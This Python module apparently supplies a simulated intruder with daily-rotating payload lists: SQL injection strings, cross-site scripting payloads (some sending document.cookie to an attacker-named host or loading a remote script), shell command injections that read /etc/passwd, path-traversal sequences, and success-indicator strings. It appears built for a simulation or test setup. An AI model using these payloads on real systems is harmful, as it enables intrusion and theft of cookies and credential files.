# ruff: noqa: E501 a line holds the words of a kind
"""The word lists of injections: some of every day, some of one day alone.

``{table}`` and ``{column}`` are what the intruder has found out; ``{n}`` is a number.
"""

from __future__ import annotations

import random

SQL = {
    "all": (
        "' OR '1'='1", "' OR 1=1--", "x' OR 'a'='a", "' UNION SELECT login,{column},mail FROM {table}--",
        "'", "' AND 1=2--", "zz%' UNION SELECT 1,login,{column} FROM {table}--", "') OR ('1'='1",
    ),
    0: (
        "' UNION SELECT 1,sql,3 FROM sqlite_master--", "' ORDER BY {n}--", "' UNION SELECT NULL,NULL,NULL--",
        "zz' UNION ALL SELECT login,{column},mail FROM {table} LIMIT {n}--", "admin'--",
    ),
    1: (
        "' AND (SELECT count(*) FROM {table})>{n}--", "' AND substr((SELECT {column} FROM {table} LIMIT 1),1,1)='a",
        "%' AND 1=CAST((SELECT {column} FROM {table} LIMIT 1) AS int)--", "' OR login LIKE '%a%",
        "zz' uNiOn SeLeCt login,{column},'x' fRoM {table}-- -",
    ),
    2: (
        "zz'/**/UNION/**/SELECT/**/login,{column},mail/**/FROM/**/{table}--", "'||(SELECT {column} FROM {table})||'",
        "' AND {n}=like('abcdefg',upper(hex(randomblob({n}0000))))--", "%27%20OR%201%3D1--", "'/**/OR/**/{n}={n}--",
    ),
    3: (
        "'; SELECT * FROM {table}; --", "zz' UNION SELECT group_concat(login),group_concat({column}),3 FROM {table}--",
        "' OR EXISTS(SELECT 1 FROM {table} WHERE login='admin')--", "' GROUP BY id HAVING 1=1--",
        "\" OR \"\"=\"", "' OR {n} BETWEEN 0 AND {n}9--",
    ),
}  # fmt: skip
SCRIPTS = {
    "all": (
        "<script>alert({n})</script>", "<img src=x onerror=alert({n})>", "\"><script>alert(document.cookie)</script>",
        "<svg onload=alert({n})>", "<script>new Image().src='//{name}/?c='+document.cookie</script>",
    ),
    0: ("<body onload=alert({n})>", "<a href=\"javascript:alert({n})\">more</a>", "<iframe src=javascript:alert({n})>"),
    1: ("<ScRiPt>alert(String.fromCharCode(88,{n}))</ScRiPt>", "<details open ontoggle=alert({n})>",
        "<input autofocus onfocus=alert({n})>"),
    2: ("%3Cscript%3Ealert({n})%3C/script%3E", "<img src=x onerror=\"eval(atob('YWxlcnQoMSk='))\">",
        "<script>fetch('//{name}/k',{{method:'POST',body:document.cookie}})</script>"),
    3: ("<svg><animate onbegin=alert({n}) attributeName=x>", "'-alert({n})-'", "<video><source onerror=alert({n})>",
        "<script src=//{name}/{n}.js></script>"),
}  # fmt: skip
COMMANDS = {
    "all": (
        "web;id", "localhost; cat /etc/passwd", "wiki|id", "x||id", "web && uname -om", "$(id)", "`id`",
    ),
    0: ("web; ls -la", "web;cat /etc/hosts", "; whoami", "localhost|ls ../"),
    1: ("web%0aid", "web\nid", "web&&cat${{IFS}}/etc/passwd", "x;head -n {n} /etc/passwd"),
    2: ("web;{{id,-u}};id", "x$(cat /etc/passwd)", "web;i''d", "x;w\\ho\\ami;id", "web|cat /etc/group"),
    3: ("web;echo aWQ=|base64 -d|sh", "web;/bin/?d;id", "web;printf '%s' {n}$(id)", "x|sh -c id", "web;find ../ -name '*.json'"),
}  # fmt: skip
TARGETS = (
    "etc/passwd",
    "etc/group",
    "etc/hosts",
    "proc/self/environ",
    "etc/nsswitch.conf",
    "etc/shadow",
)
CLIMBS = {
    "all": ("../" * 6, "../" * 9, "/"),
    0: ("../" * 12, "public/../" + "../" * 7),
    1: ("..//" * 8, "./../" * 8),
    2: ("%2e%2e%2f" * 8, "..%2f" * 8, "shared/" + "../" * 8),
    3: ("....//" * 6, "notes/../../" + "../" * 6, "%252e%252e%252f" * 5, "..\\" * 6),
}
# A reply that holds one of these shows that a command ran, or that a file of the system left.
RAN = (
    "uid=",
    "gid=",
    "root:x:0",
    "GNU/Linux",
    "127.0.0.1 localhost",
    "nobody",
    "nogroup:x",
    "site.json",
)
# No file of the machine itself: its passwd, group, hosts and nsswitch.conf are the room's own.
LEFT = ("root:x:0", "nogroup:x", "127.0.0.1 localhost", "passwd: files", "PATH=")


def of_day(lists: dict, day: int) -> list[str]:
    """Return the word list of a day: what all days have, and its own twice as often.

    Examples
    --------
    >>> of_day({"all": ("a",), 0: ("b",), 1: ("c",)}, 1)
    ['a', 'c', 'c']
    """
    own = list(lists[day % 4]) if day % 4 in lists else []
    return [*lists["all"], *own, *own]


def fill(template: str, rng: random.Random, **found: str) -> str:
    """Return a template with what the intruder has found out."""
    return template.format(n=rng.randrange(1, 99), **found)
